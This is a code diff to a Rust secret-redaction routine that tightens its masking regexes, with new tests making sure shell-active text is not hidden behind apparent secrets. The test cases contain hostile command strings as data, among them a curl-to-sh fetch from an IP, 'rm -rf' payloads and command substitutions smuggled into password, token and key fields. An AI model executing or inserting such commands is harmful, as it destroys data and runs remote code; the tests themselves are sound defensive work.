@@ -101,12 +101,14 @@ fn quiet_codes(text: &str) -> String {
         .into_owned()
 }
 
-/// What looks like a secret: the group `keep` stays, the group `hide` goes.
+/// What looks like a secret: the group `keep` stays, the group `hide` goes. What
+/// goes is one word of plain characters: nothing that a shell would act on, and
+/// no path, may disappear behind the look of a secret.
 static SECRETS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
     [
-        r"(?P<hide>-----BEGIN [A-Z ]*PRIVATE KEY-----[\s\S]*?(?:-----END [A-Z ]*PRIVATE KEY-----|\z))",
-        r"(?P<keep>\b[a-zA-Z][a-zA-Z0-9+.-]*://[^/\s:@]*:)(?P<hide>[^@\s/]+)@",
-        r"(?i)(?P<keep>\bauthorization\s*:\s*(?:bearer|basic|token)\s+)(?P<hide>[^\s'\x22]+)",
+        r"(?P<keep>-----BEGIN [A-Z ]*PRIVATE KEY-----\s*)(?P<hide>[A-Za-z0-9+=][A-Za-z0-9+/=]{15,}(?:\s+[A-Za-z0-9+=][A-Za-z0-9+/=]{15,})*(?:\s+[A-Za-z0-9+=][A-Za-z0-9+=]*)?)",
+        r"(?P<keep>\b[a-zA-Z][a-zA-Z0-9+.-]*://[^/\s:@]*:)(?P<hide>[A-Za-z0-9._~%!*+-]+)@",
+        r"(?i)(?P<keep>\bauthorization\s*:\s*(?:bearer|basic|token)\s+)(?P<hide>[A-Za-z0-9._~+/=-]+)",
         r"(?i)(?P<keep>\bbearer\s+)(?P<hide>[A-Za-z0-9._~+/=-]{16,})",
         r"(?P<hide>\bsk-[A-Za-z0-9_-]{12,})",
         r"(?P<hide>\bsayso_[A-Za-z0-9_-]{20,})",
@@ -119,8 +121,8 @@ static SECRETS: LazyLock<Vec<Regex>> = LazyLock::new(|| {
         r"(?P<hide>\bnpm_[A-Za-z0-9]{30,}|\bpypi-[A-Za-z0-9_-]{30,})",
         r"(?P<hide>\beyJ[A-Za-z0-9_-]{8,}\.eyJ[A-Za-z0-9_-]{8,}\.[A-Za-z0-9_-]+)",
         r"(?P<hide>\b[0-9]{8,10}:[A-Za-z0-9_-]{35}\b)",
-        r"(?i)(?P<keep>\b[a-z0-9_-]*(?:password|passwd|pwd|secret|api[_-]?key|access[_-]?key|auth[_-]?token|access[_-]?token|private[_-]?key)[\x22']?\s*[=:]\s*[\x22']?)(?P<hide>[^\s\x22',;&}]{4,})",
-        r"(?i)(?P<keep>--(?:password|passwd|token|secret|api-key)[ =])(?P<hide>[^\s\x22']{4,})",
+        r"(?i)(?P<keep>\b[a-z0-9_-]*(?:password|passwd|pwd|secret|api[_-]?key|access[_-]?key|auth[_-]?token|access[_-]?token|private[_-]?key)[\x22']?\s*[=:]\s*[\x22']?)(?P<hide>[A-Za-z0-9._~%!@#^*+-]{4,})",
+        r"(?i)(?P<keep>--(?:password|passwd|token|secret|api-key)[ =])(?P<hide>[A-Za-z0-9._~%!@#^*+-]{4,})",
     ]
     .iter()
     .filter_map(|pattern| Regex::new(pattern).ok())
@@ -233,6 +235,19 @@ mod tests {
         let safe = make_safe(text);
         assert!(!safe.text.contains("EXAMPLE1234567890"), "{}", safe.text);
         assert_eq!(safe.masked, 1, "{}", safe.text);
+    }
+
+    #[rstest]
+    #[case("curl --token x;curl${IFS}http://203.0.113.9|sh", "curl${IFS}http://203.0.113.9|sh")]
+    #[case("PASSWORD=$(rm -rf ~)", "$(rm -rf ~)")]
+    #[case("password=abcd|sh", "|sh")]
+    #[case("https://u:abcd`reboot`@host", "`reboot`")]
+    #[case("Authorization: Bearer abcd;reboot", ";reboot")]
+    #[case("-----BEGIN RSA PRIVATE KEY-----\n/usr/local/bin/evil\n", "/usr/local/bin/evil")]
+    #[case("-----BEGIN RSA PRIVATE KEY-----; rm -rf /; -----END RSA PRIVATE KEY-----", "rm -rf /")]
+    fn nothing_that_could_run_hides_behind_a_secret(#[case] text: &str, #[case] part: &str) {
+        let shown = make_safe(text).text;
+        assert!(shown.contains(part), "{shown}");
     }
 
     #[test]
